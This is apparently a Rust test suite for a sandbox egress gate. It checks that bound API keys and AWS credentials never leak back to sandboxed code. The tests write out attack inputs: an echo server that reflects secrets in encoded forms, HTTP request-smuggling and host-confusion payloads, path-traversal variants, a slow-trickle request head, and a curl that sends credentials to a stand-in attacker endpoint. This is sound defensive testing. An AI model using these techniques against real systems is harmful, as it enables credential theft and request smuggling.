//! G9, the gate is a wall: nothing that comes back through the egress gate carries a real bound
//! secret, no request is smuggled past its parser, a bound key never mints other credentials,
//! and a refusal is no oracle. Every case runs a real launch of the `agent` context of
//! policies/sandbox-sdk.toml holding only placeholders, against stand-in hosts behind a test CA on
//! TEST-NET addresses in a network namespace the test made ([`crate::g1_bound::Stage`]); each
//! stand-in logs what it received, which is the control: the real value did reach the host, and
//! would have come back without the gate.

use base64::Engine as _;

use crate::g1_bound::{field, Stage, ANTHROPIC_IP, APIGW_IP, APIGW_NAME, INTERNAL_IP, STS_IP};
use crate::harness::*;

/// A bound host that echoes: it logs each request like the plain stand-in, then answers by path
/// with the request head echoed as is (`/echo/body`), in base64 (`/echo/b64`), hex, percent-
/// encoded, gzip-compressed whatever was asked (`/echo/gzip`), split into 3-byte chunks
/// (`/echo/chunked`), in a response header (`/echo/header`), in a redirect's `Location`
/// (`/redirect?...`, the query kept), or names the path in a 404 (anything else).
const ECHO: &str = r#"import base64, gzip, socket, ssl, sys, threading, urllib.parse
addr, port, cert, key, log = sys.argv[1:6]
srv = socket.create_server((addr, int(port)))
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
open(log + ".ready", "w").close()
lock = threading.Lock()
def handle(c):
    try:
        c.settimeout(15)
        c = ctx.wrap_socket(c, server_side=True)
        f = c.makefile("rb")
        while True:
            first = f.readline()
            if not first:
                return
            head = [first]
            length = 0
            while True:
                line = f.readline()
                if line in (b"\r\n", b"\n", b""):
                    break
                head.append(line)
                k, _, v = line.decode("latin-1").partition(":")
                if k.strip().lower() == "content-length":
                    length = int(v.strip())
            body = f.read(length) if length else b""
            raw = b"".join(head)
            with lock, open(log, "ab") as out:
                out.write(raw + b"\n" + body + b"\n---\n")
            path = first.split(b" ")[1].decode("latin-1")
            hdrs = {}
            for h in head[1:]:
                k, _, v = h.decode("latin-1").partition(":")
                hdrs[k.strip().lower()] = v.strip()
            extra, status, payload = b"", b"200 OK", raw
            if path.startswith("/echo/body"):
                pass
            elif path.startswith("/echo/b64"):
                payload = base64.b64encode(raw)
            elif path.startswith("/echo/hex"):
                payload = raw.hex().encode()
            elif path.startswith("/echo/pct"):
                payload = urllib.parse.quote(raw.decode("latin-1"), safe="").encode()
            elif path.startswith("/echo/gzip"):
                payload, extra = gzip.compress(raw), b"Content-Encoding: gzip\r\n"
            elif path.startswith("/echo/header"):
                payload, extra = b"ok", b"X-Echo: " + hdrs.get("x-api-key", "").encode() + b"\r\n"
            elif path.startswith("/redirect"):
                q = path.partition("?")[2]
                status, payload = b"301 Moved Permanently", b"moved"
                extra = b"Location: https://api.anthropic.com/landing?" + q.encode() + b"\r\n"
            elif path.startswith("/echo/chunked"):
                pieces = [raw[i:i + 3] for i in range(0, len(raw), 3)]
                data = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"
                c.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + data)
                continue
            else:
                status, payload = b"404 Not Found", b"not found: " + path.encode()
            c.sendall(b"HTTP/1.1 " + status + b"\r\n" + extra + b"Content-Length: %d\r\n\r\n" % len(payload) + payload)
    except Exception as e:
        with lock, open(log + ".errors", "a") as out:
            out.write(repr(e) + "\n")
    finally:
        c.close()
while True:
    conn, _ = srv.accept()
    threading.Thread(target=handle, args=(conn,), daemon=True).start()
"#;

/// A second bound secret on the same host, in a query parameter (for the redirect).
const QUERY_BIND: &str = "\n[[context.agent.secrets.bind]]\nname = \"ANTHROPIC_QUERY_KEY\"\nhosts = [\"api.anthropic.com\"]\nquery = \"key\"\n";

/// The stage with the echo stand-in written, the query binding added to the policy, and its
/// secret handed.
fn echo_stage(tag: &str, query_key: &str) -> Result<Stage, String> {
    let s = Stage::new(tag, &format!("ANTHROPIC_QUERY_KEY={query_key}\n"))?;
    std::fs::write(s.path("echo.py"), ECHO).unwrap();
    let p = s.read("policy.toml");
    let p = p
        .replacen(
            "allow = [\"ANTHROPIC_API_KEY\",",
            "allow = [\"ANTHROPIC_API_KEY\", \"ANTHROPIC_QUERY_KEY\",",
            1,
        )
        .replacen(
            "[context.agent.fs]",
            &format!("{QUERY_BIND}\n[context.agent.fs]"),
            1,
        );
    check(
        p.contains("ANTHROPIC_QUERY_KEY\",") && p.contains("query = \"key\""),
        || "could not add the query binding to the test policy".to_string(),
    )?;
    std::fs::write(s.path("policy.toml"), p).unwrap();
    Ok(s)
}

/// Every echo, redirect and 404 through the gate: user code reads only placeholders (as is, and
/// decoded from base64, hex, percent-encoding and chunks), a compressed echo is refused, while the
/// stand-in's log shows it received the real values (the control: each echo did carry them).
pub fn nothing_comes_back_through_the_gate() -> Result<(), String> {
    let qkey = "AIzaSyQ0sentinel1query2key3abcdefghijkl";
    let s = echo_stage("g9echo", qkey)?;
    s.inside(
        "agent",
        r#"k="x-api-key: $ANTHROPIC_API_KEY"
u=https://api.anthropic.com
echo "PH=$ANTHROPIC_API_KEY"
echo "QPH=$ANTHROPIC_QUERY_KEY"
echo "body=$(curl -sS -m 15 "$u/echo/body" -H "$k" | tr -d '\r' | grep -i '^x-api-key')"
echo "b64=$(curl -sS -m 15 "$u/echo/b64" -H "$k")"
echo "hex=$(curl -sS -m 15 "$u/echo/hex" -H "$k")"
echo "pct=$(curl -sS -m 15 "$u/echo/pct" -H "$k")"
echo "chunked=$(curl -sS -m 15 "$u/echo/chunked" -H "$k" | tr -d '\r' | grep -i '^x-api-key')"
echo "gzip=$(curl -sS -m 15 --compressed -o /dev/null -w '%{http_code}' "$u/echo/gzip" -H "$k")"
echo "header=$(curl -sS -m 15 -D - -o /dev/null "$u/echo/header" -H "$k" | tr -d '\r' | grep -i '^x-echo')"
echo "location=$(curl -sS -m 15 -D - -o /dev/null "$u/redirect?key=$ANTHROPIC_QUERY_KEY" | tr -d '\r' | grep -i '^location')"
echo "notfound=$(curl -sS -m 15 "$u/missing?key=$ANTHROPIC_QUERY_KEY" -H "$k")"
"#,
    );
    let r = s.run_with(
        &[(ANTHROPIC_IP, 443, "anthropic", "echo.log", "echo.py")],
        "sbx agent\n",
    );
    let out = s.read("agent.out");
    let show = || s.show(&r).replace(qkey, "<REAL QUERY KEY>");
    check(r.stdout.contains("agent exit 0"), show)?;
    let (ph, qph) = (field(&out, "PH"), field(&out, "QPH"));
    check(ph.len() == s.key.len() && qph.len() == qkey.len(), show)?;
    // The control: the host received the real values, in every request.
    let log = s.read("echo.log");
    check(
        log.matches(&s.key).count() >= 8 && log.matches(qkey).count() >= 2,
        || format!("the stand-in did not receive the real values: {}", show()),
    )?;
    // What user code read, decoded the ways an echo encodes it.
    let b64 = base64::engine::general_purpose::STANDARD
        .decode(field(&out, "b64"))
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_default();
    let hex = (0..field(&out, "hex").len() / 2)
        .filter_map(|i| u8::from_str_radix(&field(&out, "hex")[2 * i..2 * i + 2], 16).ok())
        .map(char::from)
        .collect::<String>();
    let pct = percent_decode(field(&out, "pct"));
    let seen = [
        ("body", field(&out, "body").to_string()),
        ("b64", b64),
        ("hex", hex),
        ("pct", pct),
        ("chunked", field(&out, "chunked").to_string()),
        ("header", field(&out, "header").to_string()),
    ];
    for (how, text) in &seen {
        check(
            text.to_ascii_lowercase().contains(&ph.to_ascii_lowercase()),
            || {
                format!(
                    "{how}: the echo did not come back with the placeholder: {text:?}\n{}",
                    show()
                )
            },
        )?;
    }
    check(
        field(&out, "location").contains(&format!("key={qph}")),
        || format!("the redirect's Location: {}", show()),
    )?;
    check(
        field(&out, "notfound").contains(&format!("key={qph}")),
        || format!("the 404 naming the path: {}", show()),
    )?;
    // A compressed echo (sent though identity was asked for) is refused, not relayed.
    check(field(&out, "gzip") == "502", || format!("gzip: {}", show()))?;
    // Nothing user code read holds a real value, in any form checked above.
    let everything = format!(
        "{out}\n{}",
        seen.iter()
            .map(|(_, t)| t.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    );
    check(
        !everything.contains(&s.key) && !everything.contains(qkey),
        || format!("a real value came back to the sandbox: {}", show()),
    )
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let hex = b
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok());
        match (b[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(v)) => {
                out.push(v);
                i += 3;
            }
            (c, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Raw requests through the gate from user code (Python's ssl over a CONNECT, trusting the CA
/// bundle the sandbox has): a bare LF smuggling a second request into the bound header, the
/// placeholder inside a longer value or in a header named after it, a second request with
/// another Host on the same connection, and TLS naming another host (SNI) than the CONNECT; each
/// refused or cut, the stand-in's log showing none of them (the control: the well-formed request
/// on the same connection is served). Each refusal is in the audit log with its status, host and
/// port (400 for the smuggling, 421 for the other host), and the log holds neither the real value
/// nor the placeholder (a placeholder quoted in a reason is written as its name).
pub fn smuggling_and_host_confusion_are_refused() -> Result<(), String> {
    let s = echo_stage("g9smuggle", "AIzaSyQ0sentinel1query2key3abcdefghijkl")?;
    s.inside(
        "agent",
        r#"python3 - <<'PY'
import os, socket, ssl
ph = os.environ["ANTHROPIC_API_KEY"]
def through(payload, sni="api.anthropic.com"):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
    s.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    ctx.check_hostname = False
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(payload)
    got = b""
    try:
        while True:
            d = t.recv(65536)
            if not d:
                break
            got += d
    except Exception as e:
        got += b" [" + repr(e).encode() + b"]"
    return got.decode("latin-1")
def status(resp):
    return resp.split("\r\n", 1)[0]
smuggle = ("GET /echo/body HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph +
           "\nGET /smuggled?k=" + ph + " HTTP/1.1\r\n\r\n").encode()
print("bare-lf=" + status(through(smuggle)))
embedded = ("GET /echo/body HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: AAA" + ph + "BBB " + ph + "\r\n\r\n").encode()
print("embedded=" + status(through(embedded)))
pipelined = ("GET /echo/header HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph + "\r\n\r\n" +
             "GET /second HTTP/1.1\r\nHost: other.example.test\r\nx-api-key: " + ph + "\r\n\r\n").encode()
resp = through(pipelined)
print("pipelined=" + status(resp) + " responses=" + str(resp.count("HTTP/1.1 ")))
wrong_host = ("GET /echo/body HTTP/1.1\r\nHost: other.example.test\r\nx-api-key: " + ph + "\r\n\r\n").encode()
print("host=" + status(through(wrong_host)))
ok = ("GET /echo/body HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph + "\r\n\r\n").encode()
print("sni=" + status(through(ok, sni="other.example.test")))
print("control=" + status(through(ok)))
cl = ("POST /echo/body HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: +5\r\nx-api-key: " + ph + "\r\n\r\nhello").encode()
print("signed-length=" + status(through(cl)))
named = ("GET /echo/body HTTP/1.1\r\nHost: api.anthropic.com\r\nx-" + ph + ": " + ph + "\r\n\r\n").encode()
print("named=" + status(through(named)))
print("PH=" + ph)
PY
"#,
    );
    let r = s.run_with(
        &[(ANTHROPIC_IP, 443, "anthropic", "echo.log", "echo.py")],
        "sbx agent\n",
    );
    let out = s.read("agent.out");
    let show = || s.show(&r);
    check(r.stdout.contains("agent exit 0"), show)?;
    for (case, want) in [
        ("bare-lf", "HTTP/1.1 400"),
        ("embedded", "HTTP/1.1 400"),
        ("host", "HTTP/1.1 421"),
        ("signed-length", "HTTP/1.1 400"),
        ("named", "HTTP/1.1 400"),
        ("control", "HTTP/1.1 200"),
    ] {
        check(field(&out, case).starts_with(want), || {
            format!("{case}: expected {want}: {}", show())
        })?;
    }
    // The second pipelined request is never answered (one request per connection)...
    check(field(&out, "pipelined").ends_with("responses=1"), || {
        format!("pipelined: {}", show())
    })?;
    // ...and TLS naming another host gets no answer from the bound host.
    check(!field(&out, "sni").starts_with("HTTP/1.1 200"), || {
        format!("sni: {}", show())
    })?;
    // The host saw exactly the two well-formed requests (control and pipelined's first), never
    // the smuggled, embedded, second, wrong-host or wrong-SNI ones.
    let log = s.read("echo.log");
    let requests: Vec<&str> = log
        .split("\n---\n")
        .filter(|q| !q.trim().is_empty())
        .collect();
    check(requests.len() == 2, || {
        format!("requests the host saw: {}", show())
    })?;
    check(
        !log.contains("/smuggled") && !log.contains("/second") && !log.contains("AAA"),
        || format!("a refused request reached the host: {}", show()),
    )?;
    // The audit log: a line per refusal, with its status, the host and the port.
    let audit = s.read("audit.jsonl");
    let refusals = |status: u64| {
        audit
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| {
                v["event"] == "egress-refused"
                    && v["status"] == status
                    && v["host"] == "api.anthropic.com"
                    && v["port"] == 443
            })
            .count()
    };
    // bare LF, embedded, signed Content-Length and the header named after the placeholder...
    check(refusals(400) >= 4, || {
        format!("400 refusals in the audit log: {}", show())
    })?;
    // ...and another Host, another SNI.
    check(refusals(421) >= 2, || {
        format!("421 refusals in the audit log: {}", show())
    })?;
    let ph = field(&out, "PH");
    check(!ph.is_empty(), show)?;
    check(!audit.contains(&s.key) && !audit.contains(ph), || {
        format!(
            "the audit log holds the real value or the placeholder: {}",
            show().replace(ph, "<PLACEHOLDER>")
        )
    })?;
    check(audit.contains("<placeholder of ANTHROPIC_API_KEY>"), || {
        format!(
            "the placeholder quoted in a reason is not named: {}",
            show()
        )
    })
}

/// The placeholder AWS key is never traded for real credentials: `aws sts get-session-token`,
/// `assume-role` and `get-federation-token` inside `agent` reach a stand-in STS on a name the
/// test's policy binds (sts.amazonaws.com), which receives no request signed with the real key
/// id; an attacker's API Gateway (reachable, never bindable) sees neither the real key id nor
/// the session token; a presigned URL made inside holds no real key id.
pub fn a_bound_key_never_mints_credentials() -> Result<(), String> {
    let aws = require_tool("/opt/sbx-test-venv/bin/aws")?;
    let (kid, secret, token) = (
        "AKIASENTINEL0REAL0ID",
        "sentinelRealSecretKey0123456789abcdefABCD",
        "FwoGZXIvYXdzSENTINEL0real0session0token0abcdef0123456789",
    );
    let s = Stage::new(
        "g9sts",
        &format!(
            "AWS_ACCESS_KEY_ID={kid}\nAWS_SECRET_ACCESS_KEY={secret}\nAWS_SESSION_TOKEN={token}\n"
        ),
    )?;
    s.inside(
        "agent",
        &format!(
            r#"export AWS_DEFAULT_REGION=us-east-1 AWS_EC2_METADATA_DISABLED=true
e=https://sts.amazonaws.com
{aws} --endpoint-url $e sts get-session-token --duration-seconds 129600 >/dev/null 2>&1; echo "gst-rc=$?"
{aws} --endpoint-url $e sts assume-role --role-arn arn:aws:iam::123456789012:role/x --role-session-name s >/dev/null 2>&1; echo "ar-rc=$?"
{aws} --endpoint-url $e sts get-federation-token --name x >/dev/null 2>&1; echo "gft-rc=$?"
curl -sS -m 15 --aws-sigv4 "aws:amz:us-east-1:execute-api" --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \
  -H "x-amz-security-token: $AWS_SESSION_TOKEN" https://{APIGW_NAME}/prod/steal >/dev/null 2>&1; echo "apigw-rc=$?"
echo "presigned=$({aws} s3 presign s3://sbx-e2e/object --expires-in 600 2>&1)"
"#
        ),
    );
    let r = s.run_with(
        &[
            (STS_IP, 443, "sts", "sts.log", "stand_in.py"),
            (APIGW_IP, 443, "apigw", "apigw.log", "stand_in.py"),
        ],
        "sbx agent\n",
    );
    let out = s.read("agent.out");
    let show = || {
        s.show(&r)
            .replace(secret, "<REAL SECRET>")
            .replace(kid, "<REAL ID>")
            .replace(token, "<REAL TOKEN>")
    };
    check(r.stdout.contains("agent exit 0"), show)?;
    for case in ["gst-rc", "ar-rc", "gft-rc"] {
        check(field(&out, case) != "0", || {
            format!("{case}: STS answered: {}", show())
        })?;
    }
    let sts = s.read("sts.log");
    check(!sts.contains(kid) && !sts.contains(token), || {
        format!(
            "the stand-in STS received the real key id or token: {}",
            show()
        )
    })?;
    // The API Gateway stand-in was reached (the control: the request did go out) with
    // placeholders only.
    let apigw = s.read("apigw.log");
    check(apigw.contains("GET /prod/steal"), || {
        format!("API Gateway not reached: {}", show())
    })?;
    check(!apigw.contains(kid) && !apigw.contains(token), || {
        format!(
            "an attacker's API Gateway received the real key id or token: {}",
            show()
        )
    })?;
    let presigned = field(&out, "presigned");
    check(
        presigned.contains("AKIA") && !presigned.contains(kid) && !presigned.contains(token),
        || format!("presigned URL: {}", show()),
    )?;
    // The refusals are in the audit log, named.
    let audit = s.read("audit.jsonl");
    check(
        audit.contains("issues credentials") || audit.contains("mint"),
        || format!("the audit log does not say why STS was refused: {}", show()),
    )?;
    check(!audit.contains(secret) && !audit.contains(kid), show)
}

/// A refusal is no oracle: a name that resolves to an internal address is refused with a body that
/// names the rule and no address; the audit log has the address (the control: it was resolved).
pub fn a_refusal_names_the_rule_never_an_address() -> Result<(), String> {
    let s = Stage::new("g9oracle", "")?;
    s.inside(
        "agent",
        r#"echo "body=$(curl -sS -m 15 http://internal.example.test/ 2>&1 | tr '\n' ' ')"
echo "connect=$(curl -sS -m 15 https://internal.example.test/ 2>&1 | tr '\n' ' ')"
"#,
    );
    let text = s.read("policy.toml").replacen(
        "\"*.amazonaws.com\",",
        "\"*.amazonaws.com\", \"internal.example.test\",",
        1,
    );
    std::fs::write(s.path("policy.toml"), text).unwrap();
    let r = s.run_with(&[], "sbx agent\n");
    let out = s.read("agent.out");
    let show = || s.show(&r);
    check(r.stdout.contains("agent exit 0"), show)?;
    let body = field(&out, "body");
    // The generic list of classes, never which one the name fell in.
    check(
        body.contains("no sandbox may reach")
            && !body.contains(INTERNAL_IP)
            && !body.contains("RFC 1918"),
        || format!("the refusal: {}", show()),
    )?;
    check(!field(&out, "connect").contains(INTERNAL_IP), show)?;
    check(s.read("audit.jsonl").contains(INTERNAL_IP), || {
        format!("the audit log does not name the address: {}", show())
    })
}

/// Inside an intercepted connection to a bound host, `limits.head_timeout` (2 s here) is a
/// deadline for the TLS handshake and the request head together, as it is for a plain request: a
/// head trickled one byte (one TLS record) every 300 ms is answered 408 within a few seconds and
/// never reaches the host. Control: the same head sent at once is served, and the host logs it.
pub fn a_head_trickled_inside_tls_is_dropped() -> Result<(), String> {
    let s = Stage::new("g9slow", "")?;
    let p = s.read("policy.toml").replacen(
        "[context.agent.env]",
        "limits = { head_timeout = 2 }\n\n[context.agent.env]",
        1,
    );
    check(p.contains("limits = { head_timeout = 2 }"), || {
        "could not set the agent's net.limits in the test policy".to_string()
    })?;
    std::fs::write(s.path("policy.toml"), p).unwrap();
    s.inside(
        "agent",
        r#"python3 - <<'PY'
import os, socket, ssl, time
ph = os.environ["ANTHROPIC_API_KEY"]
def tls():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    return ctx.wrap_socket(s, server_hostname="api.anthropic.com")
def head(path):
    return ("GET " + path + " HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph + "\r\n\r\n").encode()
t = tls()
start = time.time()
got, closed = b"", False
for c in head("/trickled"):
    try:
        t.sendall(bytes([c]))
    except OSError:
        closed = True
        break
    time.sleep(0.3)
    t.setblocking(False)
    try:
        d = t.recv(4096)
        closed = not d
        got += d
    except ssl.SSLWantReadError:
        pass
    except OSError:
        closed = True
    t.setblocking(True)
    if got or closed or time.time() - start > 12:
        break
print("trickled=%s after %.1f s" % (got.split(b"\r\n", 1)[0].decode("latin-1") or ("closed" if closed else "nothing"), time.time() - start))
t = tls()
t.sendall(head("/whole"))
resp = b""
try:
    while True:
        d = t.recv(65536)
        if not d:
            break
        resp += d
except Exception as e:
    resp += b" [" + repr(e).encode() + b"]"
print("whole=" + resp.split(b"\r\n", 1)[0].decode("latin-1"))
PY
"#,
    );
    let r = s.run_with(
        &[(
            ANTHROPIC_IP,
            443,
            "anthropic",
            "anthropic.log",
            "stand_in.py",
        )],
        "sbx agent\n",
    );
    let out = s.read("agent.out");
    let show = || s.show(&r);
    check(r.stdout.contains("agent exit 0"), show)?;
    let trickled = field(&out, "trickled");
    let secs: f64 = trickled
        .rsplit("after ")
        .next()
        .and_then(|t| t.trim_end_matches(" s").parse().ok())
        .unwrap_or(f64::MAX);
    check(
        trickled.starts_with("HTTP/1.1 408") && (2.0..8.0).contains(&secs),
        || {
            format!(
                "the trickled head was not dropped at the deadline: {}",
                show()
            )
        },
    )?;
    check(field(&out, "whole").starts_with("HTTP/1.1 200"), || {
        format!("control: the whole head was not served: {}", show())
    })?;
    let log = s.read("anthropic.log");
    check(
        log.contains("GET /whole") && !log.contains("/trickled"),
        || format!("what the host saw: {}", show()),
    )
}

/// A binding narrowed to `POST /v1/messages` (`methods`, `paths`): inside a real launch of
/// `agent`, curl's `POST /v1/messages` reaches the stand-in with the real key (the control),
/// while `GET /v1/models`, `POST /v1/messages/../models` (sent as is), the same with `%2e%2e`, and
/// `POST /v1/messagesX` reach it with the placeholder only; the audit log has one `secret-added`
/// and four `secret-withheld` lines naming the secret and the key that said no, never the
/// request's path, the value or the placeholder.
pub fn a_narrowed_binding_adds_the_key_to_its_requests_only() -> Result<(), String> {
    let s = Stage::new("g9limits", "")?;
    let bind = "header = \"x-api-key\"               # the Anthropic API's key header\n";
    let p = s.read("policy.toml");
    check(p.contains(bind), || {
        "policies/sandbox-sdk.toml's Anthropic binding changed; update this test".to_string()
    })?;
    let p = p.replacen(
        bind,
        &format!("{bind}methods = [\"POST\"]\npaths = [\"/v1/messages\"]\n"),
        1,
    );
    std::fs::write(s.path("policy.toml"), p).unwrap();
    s.inside(
        "agent",
        r#"k="x-api-key: $ANTHROPIC_API_KEY"
u=https://api.anthropic.com
echo "PH=$ANTHROPIC_API_KEY"
go() { curl -sS -m 15 --path-as-is -X "$1" "$u$2" -H "$k" -d '{}' 2>&1; }
echo "messages=$(go POST /v1/messages)"
echo "models=$(curl -sS -m 15 "$u/v1/models" -H "$k" 2>&1)"
echo "dotdot=$(go POST /v1/messages/../models)"
echo "encoded=$(go POST /v1/messages/%2e%2e/models)"
echo "suffix=$(go POST /v1/messagesX)"
"#,
    );
    let r = s.run_with(
        &[(
            ANTHROPIC_IP,
            443,
            "anthropic",
            "anthropic.log",
            "stand_in.py",
        )],
        "sbx agent\n",
    );
    let out = s.read("agent.out");
    let ph = field(&out, "PH").to_string();
    let show = || {
        let all = s.show(&r);
        match ph.is_empty() {
            true => all,
            false => all.replace(&ph, "<PLACEHOLDER>"),
        }
    };
    check(r.stdout.contains("agent exit 0"), show)?;
    check(ph.len() == s.key.len() && ph != s.key, show)?;
    // Every request was served (the gate refused none of them)...
    for case in ["messages", "models", "dotdot", "encoded", "suffix"] {
        check(field(&out, case).contains("stand-in 192.0.2.10 ok"), || {
            format!("{case} was not served: {}", show())
        })?;
    }
    // ...and the host saw the real key in the first only, the placeholder in the others.
    let log = s.read("anthropic.log");
    let seen: Vec<&str> = log
        .split("\n---\n")
        .filter(|q| !q.trim().is_empty())
        .collect();
    check(seen.len() == 5, || {
        format!("5 requests expected: {}", show())
    })?;
    let lines = [
        "POST /v1/messages ",
        "GET /v1/models ",
        "POST /v1/messages/../models ",
        "POST /v1/messages/%2e%2e/models ",
        "POST /v1/messagesX ",
    ];
    for (i, (got, line)) in seen.iter().zip(lines).enumerate() {
        let header = got
            .lines()
            .find(|l| l.to_ascii_lowercase().starts_with("x-api-key:"))
            .unwrap_or("")
            .trim_end();
        let want = match i {
            0 => &s.key,
            _ => &ph,
        };
        check(
            got.starts_with(line) && header == format!("x-api-key: {want}"),
            || {
                format!(
                    "{line}: the host did not get the {}: {}",
                    if i == 0 { "real key" } else { "placeholder" },
                    show()
                )
            },
        )?;
    }
    check(log.matches(&s.key).count() == 1, || {
        format!("the real key went out more than once: {}", show())
    })?;
    // The audit log says which were withheld, and why.
    let audit = s.read("audit.jsonl");
    let records: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|v: &serde_json::Value| {
            v["host"] == "api.anthropic.com" && v["port"] == 443 && v["protocol"] == "connect"
        })
        .collect();
    let of = |event: &str| -> Vec<String> {
        records
            .iter()
            .filter(|v| v["event"] == event)
            .map(|v| v["reason"].as_str().unwrap_or("").to_string())
            .collect()
    };
    check(
        of("secret-added") == ["bound secret ANTHROPIC_API_KEY added"],
        || format!("one secret-added line expected: {}", show()),
    )?;
    let withheld = of("secret-withheld");
    let prefix = "bound secret ANTHROPIC_API_KEY not added: ";
    let ok = withheld.len() == 4
        && withheld.iter().all(|w| w.starts_with(prefix))
        && withheld[0].contains("methods (POST)")
        && withheld[1].contains("never match")
        && withheld[2].contains("never match")
        && withheld[3].contains("paths (/v1/messages)");
    check(ok, || {
        format!("four secret-withheld lines expected: {}", show())
    })?;
    check(of("egress-refused").is_empty(), show)?;
    check(
        !audit.contains(&s.key) && !audit.contains(&ph) && !audit.contains("models"),
        || {
            format!(
                "the audit log holds a value, the placeholder or a path: {}",
                show()
            )
        },
    )
}
